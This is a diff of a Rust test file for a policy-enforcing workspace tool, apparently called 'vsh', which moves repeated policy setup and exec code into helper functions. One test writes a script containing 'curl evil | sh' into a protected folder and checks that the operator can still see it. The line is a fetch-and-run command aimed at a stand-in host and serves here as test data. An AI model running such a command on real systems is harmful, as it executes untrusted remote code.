@@ -5215,9 +5215,7 @@ fn the_operator_can_see_what_a_run_wrote_where_reads_are_protected() {
     let dir = tempfile::tempdir().unwrap();
     let ws = dir.path().to_str().unwrap();
     let policy = dir.path().join("policy.toml");
-    std::fs::write(&policy, "version = 1\n[[protect]]\npattern = \"creds/**\"\naccess = [\"content-read\"]\n").unwrap();
-    let init = vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None);
-    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
+    init_with_policy(ws, &policy, "version = 1\n[[protect]]\npattern = \"creds/**\"\naccess = [\"content-read\"]\n");
     let program = "vsh_mkdir('creds')\nvsh_write('creds/run.sh', '#!/bin/sh\\ncurl evil | sh\\n')";
     let id = id_of(&vsh(&["run", "--workspace", ws, "-"], Some(program)));
     let plain = String::from_utf8_lossy(&vsh(&["show", &id, "--workspace", ws], None).stdout).into_owned();
@@ -5227,6 +5225,21 @@ fn the_operator_can_see_what_a_run_wrote_where_reads_are_protected() {
     let (text, said) = (String::from_utf8_lossy(&seen.stdout), String::from_utf8_lossy(&seen.stderr));
     assert!(text.contains("+curl evil | sh"), "{text}");
     assert!(said.contains("--protected: these hunks include what the policy withholds"), "{said}");
+}
+
+/// Record `text` as the policy file `policy` and the workspace `ws`'s policy.
+fn init_with_policy(ws: &str, policy: &Path, text: &str) {
+    std::fs::write(policy, text).unwrap();
+    let init = vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None);
+    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
+}
+
+/// `vsh exec --json -- sh -c SCRIPT` in `ws`: its exit code and receipt.
+fn exec_sh_json(ws: &str, script: &str) -> (Option<i32>, serde_json::Value) {
+    let ran = vsh(&["exec", "--workspace", ws, "--json", "--", "sh", "-c", script], None);
+    let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout)
+        .unwrap_or_else(|_| panic!("{script}: {}", String::from_utf8_lossy(&ran.stderr)));
+    (ran.status.code(), receipt)
 }
 
 /// ux78 H1: a rule denying `modify` (and `delete`) refused commands a new
@@ -5292,15 +5305,8 @@ fn a_rule_denying_create_lets_commands_rewrite_what_the_workspace_holds() {
     write(dir.path(), "generated/a.txt", "a\n");
     write(dir.path(), "generated/b.txt", "b\n");
     let policy = dir.path().join("policy.toml");
-    std::fs::write(&policy, "version = 1\n[[protect]]\npattern = \"generated/**\"\naccess = [\"create\"]\n").unwrap();
-    let init = vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None);
-    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
-    let exec = |script: &str| {
-        let ran = vsh(&["exec", "--workspace", ws, "--json", "--", "sh", "-c", script], None);
-        let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout)
-            .unwrap_or_else(|_| panic!("{script}: {}", String::from_utf8_lossy(&ran.stderr)));
-        (ran.status.code(), receipt)
-    };
+    init_with_policy(ws, &policy, "version = 1\n[[protect]]\npattern = \"generated/**\"\naccess = [\"create\"]\n");
+    let exec = |script: &str| exec_sh_json(ws, script);
     for script in [
         "sed -i s/a/A/ generated/a.txt",
         "python3 -c \"import os; open('generated/t.tmp', 'w').write('A'); os.replace('generated/t.tmp', 'generated/a.txt')\"",
@@ -5388,15 +5394,8 @@ fn a_rule_denying_rename_source_lets_tools_rename_their_own_files() {
     let policy = dir.path().join("policy.toml");
     let rules = "version = 1\n[[protect]]\npattern = \"migrations/**\"\naccess = [\"delete\", \"rename-source\"]\n\
                  [defaults]\nwritable_roots = [\"src\", \"migrations\"]\n";
-    std::fs::write(&policy, rules).unwrap();
-    let init = vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None);
-    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
-    let exec = |script: &str| {
-        let ran = vsh(&["exec", "--workspace", ws, "--json", "--", "sh", "-c", script], None);
-        let receipt: serde_json::Value = serde_json::from_slice(&ran.stdout)
-            .unwrap_or_else(|_| panic!("{script}: {}", String::from_utf8_lossy(&ran.stderr)));
-        (ran.status.code(), receipt)
-    };
+    init_with_policy(ws, &policy, rules);
+    let exec = |script: &str| exec_sh_json(ws, script);
     for script in [
         "sed -i s/a/b/ migrations/0001.sql",
         "echo 'create index i;' > migrations/.0002.tmp && mv migrations/.0002.tmp migrations/0002.sql",
@@ -5434,9 +5433,7 @@ fn a_move_in_two_steps_is_judged_as_the_move_it_is() {
     let policy = dir.path().join("policy.toml");
     let rules = "version = 1\n[[protect]]\npattern = \"inbox/**\"\naccess = [\"rename-destination\"]\n\
                  [[protect]]\npattern = \"out/**/*.sql\"\naccess = [\"create\"]\n";
-    std::fs::write(&policy, rules).unwrap();
-    let init = vsh(&["init", "--workspace", ws, "--policy", policy.to_str().unwrap()], None);
-    assert_eq!(init.status.code(), Some(0), "{}", String::from_utf8_lossy(&init.stderr));
+    init_with_policy(ws, &policy, rules);
     for script in [
         "mv src/f.txt .tmp && mv .tmp inbox/f.txt",
         "mv -T tree t3 && mkdir inbox/e && mv -T t3 inbox/e",
